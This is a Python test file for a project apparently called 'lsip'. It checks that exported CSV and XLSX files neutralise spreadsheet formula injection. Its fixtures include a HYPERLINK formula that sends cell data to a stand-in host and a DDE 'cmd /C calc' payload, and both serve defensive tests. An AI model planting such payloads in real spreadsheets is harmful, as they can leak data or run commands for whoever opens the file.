"""Every CSV and XLSX file lsip writes is safe to open in a spreadsheet: a text cell that
would run as a formula (=, +, -, @, tab, carriage return) is written as text, and XLSX holds
text as string cells, never formulas. Read back from the files themselves."""

import csv
import io

import openpyxl
import pytest

from lsip.core.spreadsheets import csv_text, read_table, write_table

ATTACK = '=HYPERLINK("http://x.example/?d="&A1,"Click")'
CELLS = {
    "formula": ATTACK,
    "plus": "+1+cmd|' /C calc'!A0",
    "minus": "-2+3",
    "at": "@SUM(1,2)",
    "tab": "\t=1+1",
    "cr": "\r=1+1",
    "number text": "-3.5",
    "plain": "Acme Ltd",
}


@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
def test_write_table_neutralises_formula_cells(tmp_path, suffix):
    path = tmp_path / f"out{suffix}"
    header = [*CELLS, "=header", "count"]
    write_table(path, header, [{**CELLS, "=header": "x", "count": 7}])
    if suffix == ".csv":
        rows = list(csv.reader(io.StringIO(path.read_bytes().decode("utf-8-sig"), newline="")))
        names, values = rows
    else:
        sheet = openpyxl.load_workbook(path).worksheets[0]
        names, values = ([c.value for c in row] for row in sheet.iter_rows())
        second = next(sheet.iter_rows(min_row=2))
        kinds = {n: c.data_type for n, c in zip(names, second, strict=True)}
        assert set(kinds.values()) <= {"s", "n"}, kinds  # no "f": nothing is a formula
        assert kinds["formula"] == "s"
    got = dict(zip(names, values, strict=True))
    assert got["formula"] == "'" + ATTACK
    assert got["plus"].startswith("'+")
    assert got["minus"] == "'-2+3"
    assert got["at"] == "'@SUM(1,2)"
    assert got["tab"] == "'\t=1+1"
    assert got["cr"] == "'\r=1+1"
    assert got["number text"] == "-3.5"  # a number stays a number
    assert got["plain"] == "Acme Ltd"
    assert "'=header" in names
    assert str(got["count"]) == "7"


def test_a_file_read_in_and_written_out_again_is_safe(tmp_path):
    """The coding service reads a person's file and writes it back with codes: a formula in
    their file must not come back live."""
    source = tmp_path / "in.csv"
    source.write_text(f'title\n"{ATTACK.replace(chr(34), chr(34) * 2)}"\n', encoding="utf-8")
    header, rows = read_table(source)
    assert rows[0]["title"] == ATTACK
    write_table(tmp_path / "out.xlsx", header, rows)
    sheet = openpyxl.load_workbook(tmp_path / "out.xlsx").worksheets[0]
    cell = sheet.cell(row=2, column=1)
    assert (cell.value, cell.data_type) == ("'" + ATTACK, "s")


def test_csv_text_neutralises_cells():
    text = csv_text(["Name", "Role"], [{"Name": ATTACK, "Role": "Member"}])
    rows = list(csv.DictReader(io.StringIO(text)))
    assert rows == [{"Name": "'" + ATTACK, "Role": "Member"}]


def test_the_boards_public_register_download_is_safe(marches):
    from lsip.areas.models import Cycle
    from lsip.governance import membership
    from lsip.governance.models import Board, Person

    cycle = Cycle.objects.create(area=marches, start_year=2025, end_year=2028)
    board = Board.objects.create(area=marches, cycle=cycle, name="Board")
    person = Person(board=board, name=ATTACK, kind=Person.Kind.MEMBER, represents="@employers")
    membership.save_person(person, actor=None)
    rows = list(csv.DictReader(io.StringIO(membership.register_csv(board))))
    assert rows[0]["Name"] == "'" + ATTACK
    assert rows[0]["Represents"] == "'@employers"
